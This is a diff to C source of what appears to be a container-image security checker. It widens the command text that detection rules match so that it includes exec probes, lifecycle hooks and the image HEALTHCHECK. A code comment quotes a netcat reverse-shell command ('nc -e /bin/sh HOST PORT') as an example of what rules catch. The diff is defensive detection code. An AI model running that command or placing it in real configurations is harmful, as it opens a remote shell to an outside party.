@@ -46,8 +46,10 @@ static void tool_node(pc_check_ctx *c, const char *path, const pc_node *n)
 
 /* The run's argv on one line (arguments joined by a space, as a shell
  * shows them, so a rule sees "nc -e /bin/sh HOST PORT" whether it came as
- * one argument or five), then each environment entry on a line of its own. */
-static void command_text(const pc_imgconfig *cfg, pc_buf *b)
+ * one argument or five), then each environment entry on a line of its own,
+ * then each other command it runs inside the container (a pod's exec
+ * probes and lifecycle hooks, the image's HEALTHCHECK). */
+static void command_text(const pc_imgconfig *cfg, const pc_run_facts *run, pc_buf *b)
 {
     const pc_strv *parts[] = {&cfg->entrypoint, &cfg->cmd};
     size_t k = 0;
@@ -63,6 +65,17 @@ static void command_text(const pc_imgconfig *cfg, pc_buf *b)
         pc_buf_puts(b, cfg->env.v[i] ? cfg->env.v[i] : "");
         pc_buf_add(b, "\n", 1);
     }
+    for (size_t i = 0; run && i < run->nexecs; i++) {
+        pc_buf_puts(b, run->execs[i] ? run->execs[i] : "");
+        pc_buf_add(b, "\n", 1);
+    }
+    for (size_t i = 0; i < cfg->healthcheck.n; i++) {
+        if (i)
+            pc_buf_add(b, " ", 1);
+        pc_buf_puts(b, cfg->healthcheck.v[i] ? cfg->healthcheck.v[i] : "");
+    }
+    if (cfg->healthcheck.n)
+        pc_buf_add(b, "\n", 1);
 }
 
 static void tool_command(pc_check_ctx *c)
@@ -74,7 +87,7 @@ static void tool_command(pc_check_ctx *c)
     pc_err e = {{0}};
     if (!c->rules)
         return; /* no rules (`portcullis inspect`): nothing is matched anywhere */
-    command_text(c->cfg, &b);
+    command_text(c->cfg, c->run, &b);
     if (b.oom) {
         pc_finding_lost(c->res); /* fail closed: a match may have been missed */
     } else if (b.len &&
